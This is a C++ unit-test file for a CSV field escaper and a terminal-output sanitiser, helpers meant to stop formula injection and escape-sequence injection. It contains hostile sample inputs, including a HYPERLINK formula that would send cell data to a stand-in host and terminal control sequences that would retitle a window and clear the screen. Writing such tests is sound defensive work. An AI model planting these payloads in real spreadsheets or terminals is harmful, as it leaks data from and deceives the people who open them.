// A CSV text cell opens in a spreadsheet as the text it is: quoted where the format needs it, and
// never as a formula (docs/results-store.md, "What is protected").

#include "base/io/CsvField.h"

#include <gtest/gtest.h>

namespace palpate {

TEST(CsvTextField, PlainTextStaysAsItIs) {
    EXPECT_EQ(csvTextField("Ada Lovelace"), "Ada Lovelace");
    EXPECT_EQ(csvTextField(""), "");
    EXPECT_EQ(csvTextField("3A"), "3A");
    EXPECT_EQ(csvTextField("Müller-Lüdenscheidt"), "Müller-Lüdenscheidt");  // a dash inside is no formula
}

TEST(CsvTextField, CommasQuotesAndLineBreaksAreQuoted) {
    EXPECT_EQ(csvTextField("Press, then hold"), "\"Press, then hold\"");
    EXPECT_EQ(csvTextField("the \"good\" path"), "\"the \"\"good\"\" path\"");
    EXPECT_EQ(csvTextField("two\nlines"), "\"two\nlines\"");
}

TEST(CsvTextField, AFormulaBecomesText) {
    EXPECT_EQ(csvTextField("=HYPERLINK(\"http://x\"&A1,\"click\")"),
              "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"");
    for (const char* cell : {"=1+1", "+1", "-1+cmd", "@SUM(A1)", "\tx", "\rx"}) {
        const std::string out = csvTextField(cell);
        ASSERT_GE(out.size(), 2u) << cell;
        EXPECT_EQ(out.substr(0, 2), "\"'") << cell << " -> " << out;
    }
}

}  // namespace palpate

#include "base/io/TerminalText.h"

namespace palpate {

// A name on a terminal is data: an escape sequence in it (set the title, clear the screen) is
// shown, not obeyed; UTF-8 letters pass.
TEST(TerminalSafe, ControlCharactersAreShownNotObeyed) {
    EXPECT_EQ(terminalSafe("Ada Lovelace"), "Ada Lovelace");
    EXPECT_EQ(terminalSafe("Müller 中文"), "Müller 中文");
    EXPECT_EQ(terminalSafe("x\x1b]0;pwned\x07\x1b[2Jy"), "x\\x1B]0;pwned\\x07\\x1B[2Jy");
    EXPECT_EQ(terminalSafe("tab\there\nnew\x7f"), "tab\\x09here\\x0Anew\\x7F");
    EXPECT_EQ(terminalSafe("c1\xc2\x9b"
                           "2J"),
              "c1\\u009B2J");                                 // CSI as U+009B
    EXPECT_EQ(terminalSafe("\xc2\xa0nbsp"), "\xc2\xa0nbsp");  // U+00A0 is no control
}

}  // namespace palpate
